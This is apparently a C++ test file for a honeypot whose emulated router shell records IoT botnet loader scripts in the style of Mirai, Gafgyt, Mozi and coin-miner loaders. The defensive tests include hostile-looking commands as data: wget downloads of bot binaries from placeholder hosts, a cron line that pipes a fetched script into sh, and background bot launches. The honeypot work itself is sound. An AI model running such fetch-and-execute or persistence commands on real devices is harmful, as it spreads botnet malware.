// Loader scripts written by the team in the style of public Mirai, Gafgyt, Mozi and coin-miner
// loaders (tests/data/loaders/), typed line by line into a session as a bot does: every stage that
// fetches or writes a file reaches the collector, in order, and the shell answers like the device.

#include <chrono>
#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

#include "honeypot/session/shell_session.h"
#include "support/recording_collector.h"
#include "unit/honeypot/shell/persona_fixture.h"

namespace kansoku::honeypot {
namespace {

struct Run {
    testing::RecordingCollector collector;
    std::string output;
};

/// Types the fixture's lines (comments skipped) into one session, then closes it.
std::unique_ptr<Run> typeLoader(const std::string& name) {
    std::ifstream file(std::string(KANSOKU_SOURCE_DIR) + "/tests/data/loaders/" + name);
    EXPECT_TRUE(file.good()) << name;
    auto run = std::make_unique<Run>();
    ShellSession session(run->collector, SessionContext{"00000000000000f1", "telnet", "198.51.100.7", 40000, 23, ""},
                         shell::testing::routerPersona());
    std::string line;
    while (std::getline(file, line)) {
        if (line.empty() || line[0] == '#') {
            continue;
        }
        run->output += session.runLine(line).output;
    }
    session.close();
    return run;
}

TEST(LoaderFixtures, MiraiEchoDropperThenWget) {
    auto run = typeLoader("mirai_echo.sh");
    EXPECT_EQ(run->collector.stages(),
              (std::vector<std::string>{"file /tmp/.d", "wget http://192.0.2.10/bins/mirai.mips"}));
    EXPECT_EQ(run->collector.files()[0].content.size(), 24u);
    EXPECT_NE(run->output.find("ECCHI: applet not found"), std::string::npos);
    EXPECT_NE(run->output.find(" MIPS 24Kc V7.4"), std::string::npos) << run->output; // cpuinfo | awk -F:
}

TEST(LoaderFixtures, GafgytPerArchitectureLinesAndTftpStage) {
    auto run = typeLoader("gafgyt_bins.sh");
    const auto stages = run->collector.stages();
    ASSERT_EQ(stages.size(), 3u) << ::testing::PrintToString(stages);
    EXPECT_EQ(stages[0], "wget http://192.0.2.20/bins/sora.mips");
    EXPECT_EQ(stages[1], "wget http://192.0.2.20/bins/sora.arm7");
    EXPECT_EQ(stages[2].rfind("tftp ", 0), 0u);
    EXPECT_NE(stages[2].find("tftp1.sh"), std::string::npos);
    EXPECT_NE(run->output.find("history: not found"), std::string::npos) << run->output;
}

TEST(LoaderFixtures, MoziNohupBackgroundAndKillByPid) {
    auto run = typeLoader("mozi_p2p.sh");
    EXPECT_EQ(run->collector.stages(), (std::vector<std::string>{"wget http://192.0.2.30:8080/Mozi.m"}));
    EXPECT_EQ(run->output.find("kill: "), std::string::npos) << run->output; // nothing to kill: no error
}

TEST(LoaderFixtures, MinerHereDocBase64AndSed) {
    auto run = typeLoader("miner_b64.sh");
    // The router has no curl ("not found"), so the `|| wget` fallback fetches; run.sh is reported when
    // `sh run.sh` runs it, config.json (never run) when the session closes.
    EXPECT_EQ(run->collector.stages(), (std::vector<std::string>{"wget http://192.0.2.40/xmrig", "file /tmp/.x/run.sh",
                                                                 "file /tmp/.x/config.json"}));
    const auto files = run->collector.files();
    ASSERT_EQ(files.size(), 2u);
    EXPECT_EQ(files[0].content, "#!/bin/sh\ncd /tmp/.x\n./xmrig -c config.json\n");
    EXPECT_NE(files[1].content.find("\"threads\":2}"), std::string::npos) << files[1].content; // 1 CPU * 2
    EXPECT_NE(run->output.find("\"threads\":2}"), std::string::npos);                          // tail -n 1
}

std::string readLoaderFile(const std::string& name) {
    std::ifstream file(std::string(KANSOKU_SOURCE_DIR) + "/tests/data/loaders/" + name, std::ios::binary);
    EXPECT_TRUE(file.good()) << name;
    std::ostringstream text;
    text << file.rdbuf();
    return text.str();
}

/// Runs a line as a transport does when its shell waits for downloads: each time the line waits,
/// the collector ends its fetches and the line resumes.
ShellSession::LineResult runWaiting(ShellSession& session, testing::RecordingCollector& collector,
                                    const std::string& line, size_t* waits = nullptr) {
    auto result = session.runLine(line);
    while (result.waiting) {
        EXPECT_EQ(collector.completeFetches(), 1u) << line;
        auto resumed = session.resumeLine();
        EXPECT_TRUE(resumed.has_value()) << line;
        if (!resumed) {
            break;
        }
        result = std::move(*resumed);
        if (waits != nullptr) {
            ++*waits;
        }
    }
    return result;
}

TEST(LoaderFixtures, WgetThenRunSeesTheFetchedFileAtEveryStage) {
    testing::RecordingCollector collector;
    ShellSession session(collector, SessionContext{"00000000000000f3", "telnet", "198.51.100.9", 40002, 23, ""},
                         shell::testing::routerPersona());
    // The bot: the persona's own ELF header (MIPS big-endian), so that `./.bot` "runs" and ps lists it.
    const std::string bot = std::string(session.shell().filesystem().read("/bin/busybox")->substr(0, 52)) + "bot";
    collector.serve("http://192.0.2.50/bins.sh", readLoaderFile("stages/bins.sh"));
    collector.serve("http://192.0.2.50/bins/bot.mips", bot);
    collector.serve("http://192.0.2.50/p.sh", readLoaderFile("stages/p.sh"));
    int wakes = 0;
    session.enableFetchWait(std::chrono::seconds(10), [&wakes] { ++wakes; });

    std::istringstream loader(readLoaderFile("wget_stages.sh"));
    std::string line;
    std::string output;
    size_t lines = 0;
    while (std::getline(loader, line)) {
        if (!line.empty() && line[0] != '#') {
            output += runWaiting(session, collector, line).output;
            ++lines;
        }
    }
    session.close();
    // Each stage was fetched before the next one was even known: in order, once each.
    EXPECT_EQ(collector.stages(),
              (std::vector<std::string>{"wget http://192.0.2.50/bins.sh", "wget http://192.0.2.50/bins/bot.mips",
                                        "wget http://192.0.2.50/p.sh", "file /tmp/.cron"}));
    EXPECT_EQ(wakes, 3);
    EXPECT_EQ(session.fetchWaits(), 3u);
    EXPECT_EQ(session.fetchTimeouts(), 0u);
    std::vector<std::string> executed;
    for (const auto& execution : collector.executions()) {
        executed.push_back(execution.path + " " + ::testing::PrintToString(execution.argv));
    }
    // `sh bins.sh` runs a script (an execution of it), `./.bot` the fetched ELF.
    EXPECT_EQ(executed,
              (std::vector<std::string>{"/tmp/bins.sh { \"bins.sh\" }", "/tmp/.bot { \"./.bot\", \"loader.wget\" }"}));
    EXPECT_NE(output.find("./.bot loader.wget"), std::string::npos) << output; // ps: the bot runs
    EXPECT_NE(output.find("stage3 done"), std::string::npos) << output;        // wget -qO- | sh
    EXPECT_NE(output.find("*/5 * * * * wget -qO- http://192.0.2.50/bins.sh | sh"), std::string::npos) << output;
    // One honeypot.command per line typed, however often it ran while waiting.
    EXPECT_EQ(collector.ofType("honeypot.command").size(), lines);
}

TEST(LoaderFixtures, AFetchThatNeverEndsGivesUpAtTheWaitAndIsCounted) {
    testing::RecordingCollector collector;
    ShellSession session(collector, SessionContext{"00000000000000f4", "telnet", "198.51.100.9", 40003, 23, ""},
                         shell::testing::routerPersona());
    collector.serve("http://192.0.2.50/other", "x");
    session.enableFetchWait(std::chrono::seconds(10), [] {});
    auto first = session.runLine("cd /tmp; wget http://192.0.2.50/slow -O s; ls -l s; echo after");
    ASSERT_TRUE(first.waiting);
    EXPECT_FALSE(session.resumeLine(std::chrono::steady_clock::now()).has_value()); // still within the wait
    auto late = session.resumeLine(std::chrono::steady_clock::now() + std::chrono::seconds(11));
    ASSERT_TRUE(late.has_value());
    EXPECT_FALSE(late->waiting);
    EXPECT_NE(late->output.find("after"), std::string::npos) << late->output;
    EXPECT_NE(late->output.find(" 0 "), std::string::npos) << late->output; // an empty placeholder, as before
    EXPECT_EQ(session.fetchTimeouts(), 1u);
    EXPECT_EQ(collector.downloads().size(), 1u); // asked once, not again by the run after the wait
    // The fetch ending later changes nothing for the finished line.
    EXPECT_EQ(collector.completeFetches(), 1u);
    EXPECT_FALSE(session.lineWaiting());
}

TEST(LoaderFixtures, AFailedFetchAnswersAsBusyBoxWgetAndLeavesNoFile) {
    testing::RecordingCollector collector;
    ShellSession session(collector, SessionContext{"00000000000000f5", "telnet", "198.51.100.9", 40004, 23, ""},
                         shell::testing::routerPersona());
    collector.serve("http://192.0.2.50/gone", "", 404);
    session.enableFetchWait(std::chrono::seconds(10), [] {});
    auto result = runWaiting(session, collector, "cd /tmp; wget http://192.0.2.50/gone -O g && echo ok; ls g");
    EXPECT_NE(result.output.find("wget: server returned error: HTTP/1.1 404 Not Found"), std::string::npos)
        << result.output;
    EXPECT_EQ(result.output.find("ok\n"), std::string::npos) << result.output;
    EXPECT_NE(result.output.find("ls: g: No such file or directory"), std::string::npos) << result.output;
}

TEST(LoaderFixtures, ASessionClosedWhileALineWaitsStillRecordsTheLine) {
    testing::RecordingCollector collector;
    ShellSession session(collector, SessionContext{"00000000000000f6", "telnet", "198.51.100.9", 40005, 23, ""},
                         shell::testing::routerPersona());
    collector.serve("http://192.0.2.50/x", "x");
    session.enableFetchWait(std::chrono::seconds(10), [] {});
    ASSERT_TRUE(session.runLine("wget http://192.0.2.50/x; echo hi > f").waiting);
    session.close();
    EXPECT_EQ(collector.ofType("honeypot.command").size(), 1u);
    EXPECT_EQ(collector.downloads().size(), 1u);
    EXPECT_EQ(collector.completeFetches(), 1u); // ends after the session: ignored
}

TEST(LoaderFixtures, StartedBotsShowInPsUntilKilled) {
    testing::RecordingCollector collector;
    ShellSession session(collector, SessionContext{"00000000000000f2", "ssh", "198.51.100.8", 40001, 22, ""},
                         shell::testing::routerPersona());
    // A MIPS big-endian ELF (the persona's own header): it "runs" here.
    session.runLine("cd /tmp; cat /bin/busybox > .b; echo bot >> .b; chmod 777 .b");
    auto ps = session.runLine("nohup ./.b -s scan >/dev/null 2>&1 & ps");
    EXPECT_NE(ps.output.find(" 1403 root"), std::string::npos) << ps.output;
    EXPECT_NE(ps.output.find("./.b -s scan"), std::string::npos) << ps.output;
    auto killed = session.runLine("kill -9 $(ps | grep .b | awk '{print $1}'); ps | grep -c scan; kill 99999");
    EXPECT_EQ(killed.output.find("./.b -s scan"), std::string::npos) << killed.output;
    EXPECT_NE(killed.output.find("kill: can't kill pid 99999: No such process"), std::string::npos) << killed.output;
}

} // namespace
} // namespace kansoku::honeypot
